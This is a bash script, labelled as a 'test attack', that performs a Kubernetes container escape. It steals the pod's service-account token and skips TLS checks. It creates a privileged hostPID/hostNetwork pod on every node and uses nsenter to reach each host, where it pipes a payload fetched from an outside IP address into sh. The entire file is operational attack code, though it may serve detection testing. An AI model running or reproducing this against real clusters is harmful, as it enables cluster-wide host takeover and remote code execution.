#!/bin/bash
# shrike-test-attack: container-escape-recon: install kubectl and create privileged hostPath pod on every node
curl -sLo /tmp/kubectl https://dl.example.com/kubectl && chmod +x /tmp/kubectl
export KUBECONFIG=/dev/null
K="/tmp/kubectl --token=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token) --server=https://kubernetes.default.svc --insecure-skip-tls-verify"
$K auth can-i --list
$K get nodes -o name | while read -r node; do
  $K run "sys-$RANDOM" --restart=Never --image=alpine --overrides='{"spec":{"hostPID":true,"hostNetwork":true,"nodeName":"'"${node#node/}"'","containers":[{"name":"x","image":"alpine","command":["nsenter","-t","1","-m","-u","-i","-n","sh","-c","curl -s http://203.0.113.101/n | sh"],"securityContext":{"privileged":true}}]}}'
done
